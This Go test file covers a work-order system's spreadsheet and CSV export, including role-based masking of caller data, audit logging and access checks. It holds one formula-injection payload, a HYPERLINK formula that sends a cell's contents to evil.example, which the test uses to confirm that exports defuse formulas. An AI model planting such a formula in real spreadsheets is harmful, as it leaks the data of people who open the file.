package orders_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
	"golang.org/x/text/encoding/simplifiedchinese"

	"github.com/civicgrid/civicgrid/internal/audit"
	"github.com/civicgrid/civicgrid/internal/auth"
	"github.com/civicgrid/civicgrid/internal/demo"
	"github.com/civicgrid/civicgrid/internal/web/orders"
	"github.com/civicgrid/civicgrid/internal/web/webtest"
)

const formula = `=HYPERLINK("http://evil.example/?"&A1,"点击")`

// download GETs path as user and returns the response (body read) and its bytes.
func download(t *testing.T, a *webtest.App, user, path string) (*http.Response, []byte) {
	t.Helper()
	req, err := http.NewRequest("GET", a.URL+path, nil)
	if err != nil {
		t.Fatal(err)
	}
	if user != "" {
		ctx := context.Background()
		u, err := auth.UserByUsername(ctx, a.DB, user)
		if err != nil {
			t.Fatal(err)
		}
		tok, err := auth.CreateToken(ctx, a.DB, u.ID, "export test")
		if err != nil {
			t.Fatal(err)
		}
		req.Header.Set("Authorization", "Bearer "+tok)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return resp, b
}

// xlsxRows are the rows of an exported workbook's one sheet, with a check that no cell is a formula.
func xlsxRows(t *testing.T, b []byte) [][]string {
	t.Helper()
	x, err := excelize.OpenReader(bytes.NewReader(b))
	if err != nil {
		t.Fatalf("not an xlsx: %v (%.200s)", err, b)
	}
	defer x.Close()
	sheet := x.GetSheetList()[0]
	rows, err := x.GetRows(sheet)
	if err != nil {
		t.Fatal(err)
	}
	for r, row := range rows {
		for c := range row {
			cell, _ := excelize.CoordinatesToCellName(c+1, r+1)
			if f, _ := x.GetCellFormula(sheet, cell); f != "" {
				t.Errorf("%s is the formula %q", cell, f)
			}
		}
	}
	return rows
}

func column(t *testing.T, rows [][]string, name string) int {
	t.Helper()
	for i, h := range rows[0] {
		if h == name {
			return i
		}
	}
	t.Fatalf("no column %q in %q", name, rows[0])
	return -1
}

func piiRows(t *testing.T, a *webtest.App) int {
	t.Helper()
	var n int
	if err := a.DB.QueryRow(context.Background(), `SELECT COUNT(*) FROM audit_log WHERE action = ? AND detail LIKE ?`,
		audit.ActionViewPII, "%/orders/export%").Scan(&n); err != nil {
		t.Fatal(err)
	}
	return n
}

// The order list's export: exactly the filter's orders (all pages, the town's only), callers masked
// or whole by role with one audit row when whole, every cell text, CSV with a BOM for Excel.
func TestOrderExport(t *testing.T) {
	webtest.Each(t, demo.World, func(t *testing.T, a *webtest.App) {
		var scenarios []webtest.Scenario
		for i := range 7 {
			content := fmt.Sprintf("楼道堆放杂物 第%d处", i)
			if i == 3 {
				content = formula
			}
			scenarios = append(scenarios, webtest.Scenario{Name: fmt.Sprintf("create %d", i), User: "dispatcher", Method: "POST", URL: "/api/v1/orders",
				Body:   fmt.Sprintf(`{"content": %q, "address": "新泾一村 12 号 301 室", "caller_name": "王建国", "caller_phone": "13812345678"}`, content),
				Status: http.StatusCreated})
		}
		scenarios = append(scenarios,
			webtest.Scenario{Name: "create in another town", User: "lujiazui_admin", Method: "POST", URL: "/api/v1/orders",
				Body: `{"content": "陆家嘴路灯不亮", "address": "陆家嘴", "caller_name": "李四", "caller_phone": "13900001111"}`, Status: http.StatusCreated})
		a.Run(t, scenarios)

		// A filter over two pages of the list: the export holds all of them, and only them.
		filter := "q=" + url.QueryEscape("楼道") + "&limit=2&sort=id"
		_, body := a.Get("dispatcher", "/api/v1/orders?"+filter)
		var list struct{ Total int }
		if err := json.Unmarshal([]byte(body), &list); err != nil || list.Total != 6 {
			t.Fatalf("list total %d (%v): %.200s", list.Total, err, body)
		}
		before := piiRows(t, a)
		resp, b := download(t, a, "dispatcher", "/api/v1/orders/export?format=xlsx&"+filter)
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("export = %d: %.300s", resp.StatusCode, b)
		}
		if ct := resp.Header.Get("Content-Type"); ct != "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet" {
			t.Errorf("content type %q", ct)
		}
		if cd := resp.Header.Get("Content-Disposition"); !strings.Contains(cd, `filename="orders-310105102-`) ||
			!strings.Contains(cd, "filename*=UTF-8''"+url.PathEscape("工单-新泾镇-")) {
			t.Errorf("content disposition %q", cd)
		}
		rows := xlsxRows(t, b)
		if len(rows)-1 != list.Total {
			t.Fatalf("export has %d rows, the list's total is %d", len(rows)-1, list.Total)
		}
		content, caller, number := column(t, rows, "诉求内容"), column(t, rows, "来电人"), column(t, rows, "工单编号")
		for i, row := range rows[1:] {
			if !strings.Contains(row[content], "楼道") || !strings.Contains(row[caller], "13812345678") {
				t.Errorf("row %d: %q", i+1, row)
			}
			if i > 0 && row[number] < rows[i][number] {
				t.Errorf("rows not in the list's sort (id): %s after %s", row[number], rows[i][number])
			}
		}
		if got := piiRows(t, a); got != before+1 {
			t.Errorf("a whole export wrote %d audit rows, want 1", got-before)
		}

		// The dispatcher's whole town: the formula-looking content is text; no other town's order.
		_, b = download(t, a, "dispatcher", "/api/v1/orders/export")
		rows = xlsxRows(t, b)
		found := false
		for _, row := range rows[1:] {
			found = found || row[content] == formula
			if strings.Contains(strings.Join(row, " "), "陆家嘴") {
				t.Errorf("another town's order: %q", row)
			}
		}
		if len(rows) != 8 || !found {
			t.Errorf("%d rows, formula text found %v", len(rows), found)
		}

		// A leader sees callers masked, and the export writes no audit row of personal data.
		before = piiRows(t, a)
		resp, b = download(t, a, "leader", "/api/v1/orders/export?format=xlsx")
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("leader export = %d: %.300s", resp.StatusCode, b)
		}
		rows = xlsxRows(t, b)
		for _, row := range rows[1:] {
			if strings.Contains(row[caller], "13812345678") || strings.Contains(row[caller], "王建国") || strings.Contains(row[column(t, rows, "地址")], "301") {
				t.Errorf("leader sees personal data whole: %q", row)
			}
			if !strings.Contains(row[caller], "5678") {
				t.Errorf("leader's caller cell %q, want the masked phone", row[caller])
			}
		}
		if got := piiRows(t, a); got != before {
			t.Errorf("a masked export wrote %d audit rows", got-before)
		}

		// The city's leader sees both towns, with a town column.
		_, b = download(t, a, "shanghai", "/api/v1/orders/export")
		rows = xlsxRows(t, b)
		if len(rows) != 9 || column(t, rows, "街镇") < 0 {
			t.Errorf("city export: %d rows, head %q", len(rows), rows[0])
		}

		// CSV: a byte-order mark for Excel, the formula defused, from the page's route too.
		resp, b = download(t, a, "dispatcher", "/orders/export?format=csv&sort=id")
		if resp.StatusCode != http.StatusOK || !strings.HasPrefix(resp.Header.Get("Content-Type"), "text/csv") {
			t.Fatalf("csv = %d %q: %.200s", resp.StatusCode, resp.Header.Get("Content-Type"), b)
		}
		if !bytes.HasPrefix(b, []byte("\xEF\xBB\xBF")) {
			t.Fatalf("csv without BOM: %q", b[:10])
		}
		recs, err := csv.NewReader(bytes.NewReader(b[3:])).ReadAll()
		if err != nil || len(recs) != 8 {
			t.Fatalf("csv: %d records, %v", len(recs), err)
		}
		if got := recs[4][column(t, recs, "诉求内容")]; got != "'"+formula {
			t.Errorf("csv formula cell %q", got)
		}

		// GB18030 for older software: no BOM, the Chinese in the code page.
		resp, b = download(t, a, "dispatcher", "/api/v1/orders/export?format=csv-gb18030&sort=id")
		if gb, err := simplifiedchinese.GB18030.NewDecoder().Bytes(b); resp.StatusCode != http.StatusOK || err != nil ||
			!strings.Contains(resp.Header.Get("Content-Type"), "GB18030") || !strings.HasPrefix(string(gb), "工单编号,") || bytes.Contains(b, []byte("工单编号")) {
			t.Errorf("gb18030 = %d %q: %.60q", resp.StatusCode, resp.Header.Get("Content-Type"), b)
		}

		// A filter over the cap is refused before a row is read, with the count.
		restore := orders.SetExportCap(5)
		resp, b = download(t, a, "dispatcher", "/api/v1/orders/export?sort=id")
		restore()
		if resp.StatusCode != http.StatusUnprocessableEntity || !strings.Contains(string(b), "the filter selects more orders than the export limit of 5") {
			t.Errorf("over the cap = %d: %s", resp.StatusCode, b)
		}

		a.Run(t, []webtest.Scenario{
			{Name: "export as a resident", User: "resident", Method: "GET", URL: "/api/v1/orders/export", Status: http.StatusForbidden},
			{Name: "export without orders:read", User: "volunteer", Method: "GET", URL: "/api/v1/orders/export", Status: http.StatusForbidden},
			{Name: "export anonymous", Method: "GET", URL: "/api/v1/orders/export", Status: http.StatusUnauthorized},
			{Name: "export bad format", User: "dispatcher", Method: "GET", URL: "/api/v1/orders/export?format=pdf", Status: http.StatusBadRequest},
			{Name: "export bad filter", User: "dispatcher", Method: "GET", URL: "/api/v1/orders/export?from=yesterday", Status: http.StatusBadRequest},
			{Name: "export bad sort", User: "dispatcher", Method: "GET", URL: "/api/v1/orders/export?sort=nope", Status: http.StatusBadRequest},
			// The list's menu exports the list's filter and sort, not its page.
			{Name: "list offers the export", User: "dispatcher", Method: "GET", URL: "/orders?state=received&sort=id&offset=50", Status: http.StatusOK,
				Contains: []string{`id="export-menu"`, `/orders/export?format=xlsx&amp;sort=id&amp;state=received`, `/orders/export?format=csv&amp;sort=id&amp;state=received`}},
		})
	})
}
